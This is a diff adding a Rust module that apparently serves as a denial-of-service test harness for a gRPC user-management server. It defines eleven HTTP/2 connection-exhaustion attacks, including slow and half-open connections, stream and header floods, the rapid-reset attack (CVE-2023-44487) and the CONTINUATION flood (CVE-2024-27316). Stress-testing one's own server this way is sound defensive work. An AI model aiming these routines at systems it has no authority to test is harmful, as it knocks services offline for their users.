@@ -1,0 +1,175 @@
+//! What hostile peers do. Each assault is made from one peer and returns the connections that it goes on with; dropped, it ends.
+
+use std::net::{Ipv4Addr, SocketAddr};
+
+use super::wire::{self, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, RST_STREAM, WINDOW_UPDATE, Wire};
+
+const REFLECTION: &str = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";
+const SIGN_UP: &str = "/circonus.usermanagement.v1.Identity/SignUp";
+const HEALTH: &str = "/grpc.health.v1.Health/Check";
+
+pub(crate) type Assault = fn(SocketAddr, Ipv4Addr) -> Vec<Wire>;
+
+/// All of them, by what they are called.
+pub(crate) const ALL: [(&str, Assault); 11] = [
+    ("silence", silence),
+    ("half a preface", half_a_preface),
+    ("half a TLS handshake", half_a_handshake),
+    ("requests that stall", stalled_requests),
+    ("thousands of streams", thousands_of_streams),
+    ("messages that unpack", unpacking),
+    ("answers not taken, windows closed", closed_windows),
+    ("answers not taken, nothing read", nothing_read),
+    ("rapid resets", resets),
+    ("header floods", headers),
+    ("small frames", small_frames),
+];
+
+/// Those that make the server hold something.
+pub(crate) const HOLDING: [&str; 5] = [
+    "requests that stall",
+    "thousands of streams",
+    "messages that unpack",
+    "answers not taken, windows closed",
+    "answers not taken, nothing read",
+];
+
+/// More than one peer may have, and so many that one more costs little.
+const CONNECTIONS: usize = 300;
+
+fn connections(to: SocketAddr, from: Ipv4Addr, mut say: impl FnMut(&mut Wire)) -> Vec<Wire> {
+    let connect = || {
+        let mut wire = Wire::connect(to, from);
+        say(&mut wire);
+        wire
+    };
+    std::iter::repeat_with(connect).take(CONNECTIONS).collect()
+}
+
+fn speaking(to: SocketAddr, from: Ipv4Addr, settings: &[u8], mut say: impl FnMut(&mut Wire)) -> Vec<Wire> {
+    let begin = [wire::PREFACE, &wire::frame(wire::SETTINGS, 0, 0, &[]), settings].concat();
+    connections(to, from, |wire| {
+        wire.send(&begin);
+        say(wire);
+    })
+}
+
+pub(crate) fn silence(to: SocketAddr, from: Ipv4Addr) -> Vec<Wire> {
+    connections(to, from, |_| {})
+}
+
+pub(crate) fn half_a_preface(to: SocketAddr, from: Ipv4Addr) -> Vec<Wire> {
+    connections(to, from, |wire| {
+        wire.send(&wire::PREFACE[..12]);
+    })
+}
+
+/// A record that says it has 512 bytes of a `ClientHello`, and the first of them.
+pub(crate) fn half_a_handshake(to: SocketAddr, from: Ipv4Addr) -> Vec<Wire> {
+    connections(to, from, |wire| {
+        wire.send(&[22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3]);
+    })
+}
+
+fn numbers(streams: u32) -> impl Iterator<Item = u32> {
+    (0..streams).map(|number| 2 * number + 1)
+}
+
+fn begin(stream: u32, path: &str) -> Vec<u8> {
+    wire::frame(HEADERS, END_HEADERS, stream, &wire::call(path))
+}
+
+fn ask(stream: u32, path: &str, request: &[u8]) -> Vec<u8> {
+    let message = wire::message(request);
+    let pieces = message.chunks(16 * 1024).flat_map(|piece| wire::frame(DATA, 0, stream, piece)).collect();
+    [begin(stream, path), pieces, wire::frame(DATA, END_STREAM, stream, &[])].concat()
+}
+
+/// More bytes of messages than one peer may have, each without its end. No window is passed: there are rounds, and windows open again between.
+pub(crate) fn stalled_requests(to: SocketAddr, from: Ipv4Addr) -> Vec<Wire> {
+    let head = [&[0], &(1_u32 << 20).to_be_bytes()[..]].concat();
+    let piece = [b'x'; 16 * 1024];
+    let calls = numbers(4).flat_map(|stream| [begin(stream, SIGN_UP), wire::frame(DATA, 0, stream, &head)].concat());
+    let calls = calls.collect::<Vec<_>>();
+    let round = numbers(4).flat_map(|stream| wire::frame(DATA, 0, stream, &piece)).collect::<Vec<_>>();
+    let mut wires = speaking(to, from, &[], |wire| {
+        wire.send(&calls);
+    });
+    for _ in 0..5 {
+        for wire in &mut wires {
+            wire.send(&round);
+        }
+    }
+    wires
+}
+
+pub(crate) fn thousands_of_streams(to: SocketAddr, from: Ipv4Addr) -> Vec<Wire> {
+    let calls = numbers(100).flat_map(|stream| begin(stream, REFLECTION)).collect::<Vec<_>>();
+    speaking(to, from, &[], |wire| {
+        wire.send(&calls);
+    })
+}
+
+/// Sixteen thousand entries in each message: an empty one is two bytes on its way.
+pub(crate) fn unpacking(to: SocketAddr, from: Ipv4Addr) -> Vec<Wire> {
+    let entries = [0x12, 0].repeat(16 * 1024);
+    let call = |stream: u32| ask(stream, "/circonus.usermanagement.v1.UserManagement/BatchInviteUsers", &entries);
+    let calls = numbers(3).flat_map(call).collect::<Vec<_>>();
+    speaking(to, from, &[], |wire| {
+        wire.send(&calls);
+    })
+}
+
+/// A question whose answer is the whole contract.
+fn reflection(stream: u32) -> Vec<u8> {
+    let symbol = b"circonus.usermanagement.v1.Operations";
+    let request = [&[0x22, u8::try_from(symbol.len()).unwrap()], &symbol[..]].concat();
+    ask(stream, REFLECTION, &request)
+}
+
+pub(crate) fn closed_windows(to: SocketAddr, from: Ipv4Addr) -> Vec<Wire> {
+    let questions = numbers(100).flat_map(reflection).collect::<Vec<_>>();
+    speaking(to, from, &wire::setting(4, 0), |wire| {
+        wire.send(&questions);
+    })
+}
+
+pub(crate) fn nothing_read(to: SocketAddr, from: Ipv4Addr) -> Vec<Wire> {
+    let questions = numbers(100).flat_map(reflection).collect::<Vec<_>>();
+    let wider = wire::frame(WINDOW_UPDATE, 0, 0, &(wire::WIDEST - 65_535).to_be_bytes());
+    let settings = [wire::setting(4, wire::WIDEST), wider].concat();
+    speaking(to, from, &settings, |wire| {
+        wire.send(&questions);
+    })
+}
+
+/// Calls that are taken back at once (CVE-2023-44487).
+pub(crate) fn resets(to: SocketAddr, from: Ipv4Addr) -> Vec<Wire> {
+    let pair = |stream: u32| [ask(stream, HEALTH, &[]), wire::frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())].concat();
+    let calls = numbers(200).flat_map(pair).collect::<Vec<_>>();
+    speaking(to, from, &[], |wire| {
+        wire.send(&calls);
+    })
+}
+
+/// Header fields without end (CVE-2024-27316).
+pub(crate) fn headers(to: SocketAddr, from: Ipv4Addr) -> Vec<Wire> {
+    let fields = wire::field("x-of-no-use", &"x".repeat(100)).repeat(100);
+    let more = wire::frame(CONTINUATION, 0, 1, &fields);
+    speaking(to, from, &[], |wire| {
+        let mut going_on = wire.send(&wire::frame(HEADERS, 0, 1, &wire::call(HEALTH)));
+        for _ in 0..20 {
+            going_on = going_on && wire.send(&more);
+        }
+    })
+}
+
+/// A message a byte at a time, and frames with none.
+pub(crate) fn small_frames(to: SocketAddr, from: Ipv4Addr) -> Vec<Wire> {
+    let head = [&[0], &(1_u32 << 20).to_be_bytes()[..]].concat();
+    let drops = [wire::frame(DATA, 0, 1, b"x"), wire::frame(DATA, 0, 1, b"")].concat().repeat(2000);
+    let call = [begin(1, SIGN_UP), wire::frame(DATA, 0, 1, &head), drops].concat();
+    speaking(to, from, &[], |wire| {
+        wire.send(&call);
+    })
+}
